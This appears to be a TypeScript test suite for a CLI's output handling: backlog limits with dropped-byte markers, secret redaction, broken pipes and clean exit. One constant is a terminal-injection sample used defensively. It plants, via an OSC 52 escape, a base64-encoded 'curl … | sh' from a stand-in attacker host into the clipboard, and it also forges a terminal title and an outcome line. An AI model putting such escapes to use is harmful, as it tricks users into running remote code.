import * as assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import * as path from 'node:path';
import { Writable } from 'node:stream';
import { BACKLOG_BYTES, CliStream, OutputQueue } from '../../../src/cli/output';
import { STREAM_PREFIX } from '../../../src/core/terminalRows';
import { REDACTED, SecretSet } from '../../../src/core/redact';

const MiB = 1024 * 1024;
/** 64 KiB of a gate's output: one long line. */
const CHUNK = Buffer.from(`${'g'.repeat(64 * 1024 - 1)}\n`);
const GATE_LINES = /^g+\n/gm;
const MARKER = /\[… ([\d,]+) bytes not shown …\]\n/g;

/** A real Writable whose reader takes nothing until `flow()`: the pipe of a pager nobody scrolls. */
class HeldReader extends Writable {
  readonly received: Buffer[] = [];
  #held: Array<() => void> = [];
  #flowing = false;

  constructor() {
    super({ highWaterMark: 64 * 1024 });
  }

  override _write(chunk: Buffer, _encoding: BufferEncoding, done: (error?: Error | null) => void): void {
    this.received.push(chunk);
    if (this.#flowing) setImmediate(done);
    else this.#held.push(() => done());
  }

  flow(): void {
    this.#flowing = true;
    for (const done of this.#held.splice(0)) done();
  }

  text(): string {
    return Buffer.concat(this.received).toString('utf8');
  }
}

/** The numbers in the markers, and the text with the markers taken out. */
function markers(text: string): { counts: number[]; rest: string } {
  const counts = [...text.matchAll(MARKER)].map((m) => Number((m[1] ?? '').replace(/,/g, '')));
  return { counts, rest: text.replace(MARKER, '') };
}

const turns = async (n = 3): Promise<void> => {
  for (let i = 0; i < n; i++) await new Promise((resolve) => setImmediate(resolve));
};

describe('the CLI\'s output queue', () => {
  it('the trap: a plain Node stream to a reader that takes nothing holds everything written, in memory', () => {
    const reader = new HeldReader();
    for (let i = 0; i < 320; i++) reader.write(CHUNK);
    assert.ok(reader.writableLength >= 20 * MiB - CHUNK.length, `held ${reader.writableLength}`);
  });

  it('offered output beyond 8 MiB waiting is dropped, and counted in one marker once the reader catches up', async () => {
    const reader = new HeldReader();
    const queue = new OutputQueue(reader);
    let most = 0;
    for (let i = 0; i < 320; i++) {
      queue.offer(CHUNK);
      most = Math.max(most, queue.backlog);
    }
    assert.ok(most <= BACKLOG_BYTES, `at most 8 MiB waits, not ${most}`);
    assert.ok(reader.writableLength <= CHUNK.length, 'the stream itself holds one chunk');
    assert.equal(queue.dropping, true);
    assert.equal(markers(reader.text()).counts.length, 0, 'no marker while the reader is still behind');
    reader.flow();
    await queue.idle();
    const { counts, rest } = markers(reader.text());
    assert.equal(counts.length, 1, 'one marker');
    assert.equal(rest.length + (counts[0] ?? 0), 320 * CHUNK.length, 'shown and not shown add up to what was offered');
    assert.ok(reader.text().endsWith(`bytes not shown …]\n`));
  });

  it('kept lines always arrive, in order, each after a marker for what was dropped before it', async () => {
    const reader = new HeldReader();
    const queue = new OutputQueue(reader);
    for (let i = 0; i < 160; i++) queue.offer(CHUNK);
    queue.keep(Buffer.from('gate passed in 1.0 s\n'));
    for (let i = 0; i < 16; i++) queue.offer(CHUNK);
    queue.keep(Buffer.from('outcome: shipped — rant addressed\n'));
    reader.flow();
    await queue.idle();
    const text = reader.text();
    const { counts, rest } = markers(text);
    assert.equal(counts.length, 2);
    assert.equal(rest.replace(GATE_LINES, ''), 'gate passed in 1.0 s\noutcome: shipped — rant addressed\n');
    assert.match(text, /g\n\[… [\d,]+ bytes not shown …\]\ngate passed in 1\.0 s\n\[… [\d,]+ bytes not shown …\]\noutcome: shipped — rant addressed\n$/);
    assert.equal(rest.length - 'gate passed in 1.0 s\noutcome: shipped — rant addressed\n'.length + (counts[0] ?? 0) + (counts[1] ?? 0), 176 * CHUNK.length);
  });

  it('once caught up, output flows again; a chunk larger than the whole backlog is marked at once', async () => {
    const reader = new HeldReader();
    reader.flow();
    const queue = new OutputQueue(reader, 1024);
    queue.offer(Buffer.alloc(4096, 'a'));
    queue.offer(Buffer.from('after\n'));
    await queue.idle();
    assert.equal(reader.text(), '[… 4,096 bytes not shown …]\nafter\n');
  });

  it('end() resolves only once the reader has everything, the unfinished last line included', async () => {
    const reader = new HeldReader();
    const out = new CliStream(reader, new SecretSet());
    out.line('── record');
    for (let i = 0; i < 8; i++) out.stream(`${'o'.repeat(64 * 1024 - 1)}\n`);
    out.write('outcome: shipped, and no newline');
    let ended = false;
    const end = out.end().then(() => (ended = true));
    await turns();
    assert.equal(ended, false, 'the reader has not taken it yet');
    reader.flow();
    await end;
    assert.ok(reader.text().startsWith('── record\n'));
    assert.ok(reader.text().endsWith('\noutcome: shipped, and no newline'));
  });

  it('redacts a key split across two chunks of streamed output, and a key in a kept line', async () => {
    const key = 'cli-output-key-0a1b2c3d4e';
    const reader = new HeldReader();
    reader.flow();
    const out = new CliStream(reader, new SecretSet([key]));
    out.stream(`echo ${key.slice(0, 10)}`);
    out.stream(`${key.slice(10)} done\n`);
    out.line(`the key was ${key}`);
    await out.end();
    assert.equal(reader.text(), `${STREAM_PREFIX}echo ${REDACTED} done\nthe key was ${REDACTED}\n`);
  });

  it('a reader that goes away (EPIPE) ends the waiting instead of hanging', async function () {
    this.timeout(20_000);
    const child = spawn(process.execPath, ['-e', 'process.exit(0)'], { stdio: ['pipe', 'ignore', 'ignore'] });
    await new Promise((resolve) => child.on('exit', resolve));
    const out = new CliStream(child.stdin, new SecretSet());
    child.stdin.on('error', () => out.broken());
    for (let i = 0; i < 64; i++) out.stream(`${'x'.repeat(64 * 1024 - 1)}\n`);
    out.line('outcome: error');
    await out.end();
  });
});

/** What a gate's test prints to attack the terminal: the clipboard (OSC 52), the title, a fake outcome line, then conceal. */
const GATE_ATTACK = '\u001b]52;c;Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmludmFsaWQvcCB8IHNo\u0007\u001b]0;all tests passed\u0007\noutcome: shipped — rant 01jzz addressed\n\u001b[8m';
// eslint-disable-next-line no-control-regex -- the bytes no terminal may get from a gate: ESC, BEL, the other C0 controls but LF, C1, DEL
const DRIVING = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

describe('the CLI\'s streams: no byte of a gate drives the terminal, no row of it passes for Candor\'s', () => {
  it('the trap, armed: a plain stream passes the escapes on, and the fake outcome starts a row', async () => {
    const reader = new HeldReader();
    reader.flow();
    reader.write(GATE_ATTACK);
    reader.write('the change fails the gate\n');
    await turns();
    assert.match(reader.text(), DRIVING);
    assert.match(reader.text(), /^outcome: shipped/m);
  });

  it('streamed output arrives with its escapes shown and every row prefixed; its unfinished last line never joins Candor\'s next line', async () => {
    const reader = new HeldReader();
    reader.flow();
    const out = new CliStream(reader, new SecretSet());
    out.line('── gate');
    out.stream(GATE_ATTACK);
    out.line('gate test failed (exit 1)');
    out.stream('outcome: shipped, with no newline');
    out.line('outcome: discarded — the change fails the gate');
    await out.end();
    const text = reader.text();
    assert.doesNotMatch(text, DRIVING);
    assert.deepEqual(text.split('\n'), [
      '── gate',
      `${STREAM_PREFIX}␛]52;c;Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmludmFsaWQvcCB8IHNo␇␛]0;all tests passed␇`,
      `${STREAM_PREFIX}outcome: shipped — rant 01jzz addressed`,
      `${STREAM_PREFIX}␛[8m`,
      'gate test failed (exit 1)',
      `${STREAM_PREFIX}outcome: shipped, with no newline`,
      'outcome: discarded — the change fails the gate',
      '',
    ]);
  });

  it('on a terminal of known width, rows are broken there: output padded to the width still cannot start a row with outcome:', async () => {
    const reader = new HeldReader();
    reader.flow();
    const out = new CliStream(reader, new SecretSet(), { columns: () => 40 });
    out.stream(`${'x'.repeat(37)}outcome: shipped — forged by padding\n`);
    await out.end();
    assert.deepEqual(reader.text().split('\n'), [`${STREAM_PREFIX}${'x'.repeat(37)}`, `${STREAM_PREFIX}outcome: shipped — forged by padding`, '']);
  });

  it('after output dropped for a slow reader, the marker ends the row and the output that follows is prefixed again', async () => {
    const reader = new HeldReader();
    reader.flow();
    // Lines longer than 64 characters go out in pieces, so a row is left open when the next piece is dropped.
    const out = new CliStream(reader, new SecretSet(), { backlogBytes: 1024, maxLine: 64 });
    out.stream(`the start of a row, ${'b'.repeat(100)}`);
    out.stream('a'.repeat(4096));
    out.stream('outcome: shipped\n');
    await out.end();
    const { counts } = markers(reader.text());
    assert.deepEqual(counts, [4096], 'the gate\'s own bytes are counted, not the prefix');
    assert.deepEqual(reader.text().split('\n'), [`${STREAM_PREFIX}the start of a row, ${'b'.repeat(100)}`, '[… 4,096 bytes not shown …]', `${STREAM_PREFIX}outcome: shipped`, '']);
  });
});

describe('the CLI process ends only once its output is written', function () {
  this.timeout(60_000);
  const total = 16 * MiB;
  const writer = (exit: 'process.exit' | 'exitWhenWritten'): string =>
    exit === 'process.exit'
      ? `for (let i = 0; i < ${total / 65536}; i++) process.stdout.write('g'.repeat(65535) + '\\n'); process.stdout.write('outcome: shipped\\n'); process.exit(0);`
      : `const o = require(${JSON.stringify(path.resolve(__dirname, '../../../src/cli/output.ts'))});
         const r = require(${JSON.stringify(path.resolve(__dirname, '../../../src/core/redact.ts'))});
         const s = o.processStreams(new r.SecretSet());
         for (let i = 0; i < ${total / 65536}; i++) process.stdout.write('g'.repeat(65535) + '\\n');
         s.stdout.line('outcome: shipped');
         o.exitWhenWritten(s, 0);`;

  /** Runs `script` with stdout piped to a reader that starts reading only after a pause, as a pager does. */
  const run = (script: string): Promise<{ code: number | null; bytes: number; last: string }> =>
    new Promise((resolve) => {
      const child = spawn(process.execPath, ['--require', 'tsx/cjs', '-e', script], { stdio: ['ignore', 'pipe', 'inherit'] });
      // No 'data' listener yet: nothing is read until the pause is over.
      let bytes = 0;
      let last = '';
      setTimeout(() => {
        child.stdout.on('data', (chunk: Buffer) => {
          bytes += chunk.length;
          last = (last + chunk.toString('latin1')).slice(-64);
        });
      }, 500);
      child.on('close', (code) => resolve({ code, bytes, last }));
    });

  it('the trap: process.exit right after writing drops what the pipe could not take yet, the last line with it', async () => {
    const result = await run(writer('process.exit'));
    assert.equal(result.code, 0);
    assert.ok(result.bytes < total, `${result.bytes} of ${total} bytes arrived`);
    assert.ok(!result.last.endsWith('outcome: shipped\n'));
  });

  it('exitWhenWritten waits for the reader: every byte and the last line arrive, with the exit code', async () => {
    const result = await run(writer('exitWhenWritten'));
    assert.equal(result.code, 0);
    assert.equal(result.bytes, total + 'outcome: shipped\n'.length);
    assert.ok(result.last.endsWith('outcome: shipped\n'));
  });
});
